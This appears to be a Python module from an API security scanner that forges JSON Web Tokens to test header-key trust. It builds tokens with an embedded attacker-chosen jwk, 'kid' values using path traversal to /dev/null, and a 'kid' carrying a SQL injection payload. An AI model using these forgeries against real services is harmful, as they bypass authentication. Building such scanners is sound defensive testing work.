"""Tokens whose header names a key of our own: in the header, or where it can be guessed (RFC 8725, section 3.10)."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from typing import Final

from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.padding import PKCS1v15
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256

from apiward.core.jsonvalue import Json
from apiward.scan.proofs.trials.tokens import HASHES, Jwt, encoded, signed, unsigned

OWN: Final = b"a key of apiward's own, 32 bytes"
OTHER: Final = b"not the key that is named there!"
_UP: Final = "../" * 12


@dataclass(frozen=True, slots=True)
class Forgery:
    """A token in words, and its twin with the same header that is signed with another key."""

    words: str
    text: str
    twin: str


def forgeries(token: Jwt, claims: dict[str, Json]) -> Iterator[Forgery]:
    """Yield tokens with these claims: with the key in the header, then with a key that the header points to."""
    if token.algorithm in HASHES:
        shared: dict[str, Json] = {"kty": "oct", "k": encoded(OWN)}
        yield _shared("that brings its own key in its header", token, claims, {"jwk": shared}, OWN)
    maker = _elliptic if token.algorithm.startswith("ES") else _rsa
    yield maker(token, claims)
    if "kid" not in token.header and token.algorithm not in HASHES:
        return
    for path in ("/dev/null", f"{_UP}dev/null"):
        yield _shared("whose header points to an empty file as its key", token, claims, {"kid": path}, b"")
    if "kid" in token.header:
        kid = "none' UNION SELECT 'apiward-own-key' -- "
        yield _shared("whose header asks the database for its key", token, claims, {"kid": kid}, b"apiward-own-key")


def _shared(words: str, token: Jwt, claims: dict[str, Json], more: dict[str, Json], key: bytes) -> Forgery:
    algorithm = token.algorithm if token.algorithm in HASHES else "HS256"
    header = {**token.header, **more}
    return Forgery(words, signed(header, claims, key, algorithm), signed(header, claims, OTHER, algorithm))


def _rsa(token: Jwt, claims: dict[str, Json]) -> Forgery:
    key, other = _rsa_keys()
    numbers = key.public_key().public_numbers()
    jwk: dict[str, Json] = {"kty": "RSA", "n": _number(numbers.n, 256), "e": "AQAB", "kid": "apiward", "use": "sig"}
    header = _named({**token.header, "alg": "RS256", "jwk": jwk})
    return _pair(header, claims, *(lambda body, k=k: k.sign(body, PKCS1v15(), SHA256()) for k in (key, other)))


def _elliptic(token: Jwt, claims: dict[str, Json]) -> Forgery:
    key, other = (ec.generate_private_key(ec.SECP256R1()) for _ in range(2))
    numbers = key.public_key().public_numbers()
    x, y = _number(numbers.x, 32), _number(numbers.y, 32)
    jwk: dict[str, Json] = {"kty": "EC", "crv": "P-256", "x": x, "y": y, "kid": "apiward", "use": "sig"}
    header = _named({**token.header, "alg": "ES256", "jwk": jwk})
    return _pair(header, claims, *(lambda body, k=k: _raw(k.sign(body, ec.ECDSA(SHA256()))) for k in (key, other)))


def _named(header: dict[str, Json]) -> dict[str, Json]:
    return {**header, "kid": "apiward"} if "kid" in header else header


def _pair(
    header: dict[str, Json], claims: dict[str, Json], good: Callable[[bytes], bytes], bad: Callable[[bytes], bytes]
) -> Forgery:
    body = unsigned(header, claims)
    texts = (f"{body}.{encoded(sign(body.encode()))}" for sign in (good, bad))
    return Forgery("that brings its own key in its header", *texts)


@cache
def _rsa_keys() -> tuple[rsa.RSAPrivateKey, ...]:
    """Return two key pairs, which are made once: they protect nothing."""
    return tuple(rsa.generate_private_key(public_exponent=65537, key_size=2048) for _ in range(2))


def _raw(signature: bytes) -> bytes:
    """Return an elliptic signature as tokens hold it (RFC 7518, section 3.4)."""
    return b"".join(number.to_bytes(32, "big") for number in decode_dss_signature(signature))


def _number(value: int, size: int) -> str:
    return encoded(value.to_bytes(size, "big"))
